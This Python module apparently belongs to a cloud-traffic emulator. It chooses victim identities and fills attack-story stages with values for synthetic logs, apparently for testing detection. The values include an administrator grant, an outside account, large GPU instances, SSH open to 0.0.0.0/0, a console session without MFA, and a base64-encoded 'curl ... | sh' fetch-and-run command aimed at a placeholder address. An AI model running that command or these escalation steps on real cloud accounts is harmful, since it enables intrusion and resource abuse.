"""Who plays in a story: the victim, the addresses, the keys that are made on the way."""

from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from typing import NamedTuple

from akwarden.emulator.traffic.account import new_thing, new_token
from akwarden.emulator.traffic.actor import Access, Actor, ActorKind, Key
from akwarden.emulator.traffic.calls import Cloud
from akwarden.emulator.traffic.dice import Dice
from akwarden.emulator.traffic.moment import HOUR
from akwarden.emulator.traffic.organisation import Organisation
from akwarden.emulator.traffic.player import moved, principal_of, sign_in
from akwarden.emulator.traffic.principal import CallerKind, Principal, Session
from akwarden.emulator.traffic.story import Stage, StageKey, Story, Victim

_STAYS = 1.0


def _has_key(kind: ActorKind) -> Callable[[Actor], bool]:
    return lambda one: (
        one.kind is kind and one.access is Access.KEY and one.joins == 0 and one.leaves == _STAYS
    )


def _is_console(one: Actor) -> bool:
    return (
        one.kind is ActorKind.PERSON
        and one.access is Access.CONSOLE
        and one.leaves == _STAYS
        and not one.joins
    )


_FITS: Mapping[Victim, Callable[[Actor], bool]] = {
    Victim.SERVICE_KEY: lambda one: _has_key(ActorKind.SERVICE)(one) and len(one.keys) == 1,
    Victim.PERSON_KEY: _has_key(ActorKind.PERSON),
    Victim.ADMIN_KEY: _has_key(ActorKind.PERSON),
    Victim.CONSOLE: _is_console,
    Victim.ADMIN_CONSOLE: lambda one: _is_console(one) and one.profile == "admin",
    Victim.ROLE: lambda one: one.kind is ActorKind.SERVICE and one.access is Access.ROLE,
    Victim.ROTATED_KEY: lambda one: any(key.is_forgotten for key in one.keys),
    Victim.LEFT_KEY: lambda one: one.leaves < _STAYS and one.access is Access.KEY,
    Victim.DORMANT_KEY: lambda one: one.kind is ActorKind.DORMANT,
}
STRANGER = {Cloud.TENCENT: "299000000077", Cloud.AWS: "299000000077"}
"""An account that has nothing to do with the company."""
_ADMIN_GRANT = {Cloud.TENCENT: "1", Cloud.AWS: "AdministratorAccess"}
_LARGE = {Cloud.TENCENT: "GN10Xp.20XLARGE320", Cloud.AWS: "p4d.24xlarge"}
_DOWNLOAD = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny94LnNoIHwgc2gK"
"""`curl -s http://198.51.100.77/x.sh | sh`, an address of documents."""


class Cast(NamedTuple):
    """Who plays in one story."""

    cloud: Cloud
    victim: Actor
    other: Actor
    """Whose key is the second one, of another account."""
    target: Actor
    """For whom a key is made."""


def cast_for(story: Story, organisation: Organisation, taken: set[str], dice: Dice) -> Cast:
    """Return who plays in a story, where it can be nobody who plays in one of those before."""
    clouds = list(story.clouds) if dice.share() < 0.5 else list(reversed(story.clouds))  # noqa: PLR2004
    for may_repeat in (False, True):
        for cloud in clouds:
            found = [
                one
                for one in organisation.actors
                if one.account.cloud is cloud
                and _FITS[story.victim](one)
                and (may_repeat or one.label not in taken)
            ]
            if found:
                victim = dice.pick(found)
                taken.add(victim.label)
                return Cast(
                    cloud, victim, _other(organisation, victim, dice), _target(organisation, victim, dice)
                )
    raise LookupError(story.victim)


def _other(organisation: Organisation, victim: Actor, dice: Dice) -> Actor:
    fits = _has_key(ActorKind.PERSON)
    return dice.pick([one for one in organisation.actors if fits(one) and one.account is not victim.account])


def _target(organisation: Organisation, victim: Actor, dice: Dice) -> Actor:
    near = [
        one for one in organisation.actors if one.account is victim.account and one.keys and one is not victim
    ]
    return dice.pick(near or [victim])


class Props:
    """What a story makes on its way."""

    def __init__(self, cast: Cast, dice: Dice) -> None:
        """Take who plays, and the draws of the story."""
        self._cast = cast
        self._dice = dice
        self._held: Principal | None = None
        self._made = ""
        """The id of a key that was made."""

    def principal(
        self, story: Story, stage: Stage, moment: int, address: str, *, is_attack: bool
    ) -> Principal:
        """Return what a stage calls with."""
        victim, dice = self._cast.victim, self._dice
        match stage.key:
            case StageKey.OTHER:
                other = self._cast.other
                return principal_of(other, other.keys[0].id)
            case StageKey.MADE:
                return principal_of(self._cast.target, self._made)
            case StageKey.FEDERATED:
                return self._federated(moment)
            case StageKey.SESSION:
                return self._elsewhere(address)
            case StageKey.CONSOLE | StageKey.VICTIM:
                pass
        if victim.access in {Access.CONSOLE, Access.ROLE}:
            if self._held is None:
                self._held = sign_in(victim, moment, address, dice)[0]
                if is_attack and stage.key is StageKey.CONSOLE:
                    self._held = _without_mfa(self._held)
            return self._held
        key = victim.keys[0] if story.victim is not Victim.ROTATED_KEY else _forgotten(victim)
        return principal_of(victim, key.id)

    def given(self, stage: Stage) -> dict[str, str]:
        """Return what the slots of a stage's calls are filled with."""
        return {slot: self._meaning(slot, word) for slot, word in stage.given.items()}

    def _meaning(self, slot: str, word: str) -> str:
        cloud, victim, target = self._cast.cloud, self._cast.victim, self._cast.target
        match word:
            case "made":
                self._made = self._made or new_thing(slot.removeprefix("new-"), cloud, self._dice)
                return self._made
            case "target":
                return target.name if slot == "person" else target.principal
            case "self":
                return victim.name if slot == "person" else victim.principal
            case _:
                return _WORDS[word][cloud]

    def _federated(self, moment: int) -> Principal:
        if self._held is None or self._held.kind is not CallerKind.FEDERATED:
            victim, cloud = self._cast.victim, self._cast.cloud
            token = new_token(cloud, self._dice)
            session = Session(_TOKEN_NAME, token, moment, moment + 12 * HOUR)
            self._held = Principal(
                victim.account,
                CallerKind.FEDERATED,
                victim.name,
                victim.principal,
                self._made_session(),
                session,
            )
        return self._held

    def _made_session(self) -> str:
        return self._made or new_thing("session-key", self._cast.cloud, self._dice)

    def _elsewhere(self, address: str) -> Principal:
        assert self._held is not None  # noqa: S101  the stage before made it
        return moved(self._held, address)


_TOKEN_NAME = "ops-tool"  # noqa: S105  the name of a session
_WORDS: Mapping[str, Mapping[Cloud, str]] = {
    "stranger": STRANGER,
    "admin": _ADMIN_GRANT,
    "large": _LARGE,
    "many": dict.fromkeys(Cloud, "20"),
    "everybody": dict.fromkeys(Cloud, "0.0.0.0/0"),
    "ssh": dict.fromkeys(Cloud, "22"),
    "download": dict.fromkeys(Cloud, _DOWNLOAD),
    "http": dict.fromkeys(Cloud, "apigw"),
    "token-name": dict.fromkeys(Cloud, _TOKEN_NAME),
}


def words() -> Sequence[str]:
    """Return all words that a slot of a stage may be given."""
    return [*_WORDS, "made", "target", "self"]


def _forgotten(actor: Actor) -> Key:
    return next(key for key in actor.keys if key.is_forgotten)


def _without_mfa(principal: Principal) -> Principal:
    assert principal.session is not None  # noqa: S101  it is one of the console
    return replace(principal, session=replace(principal.session, mfa=False))
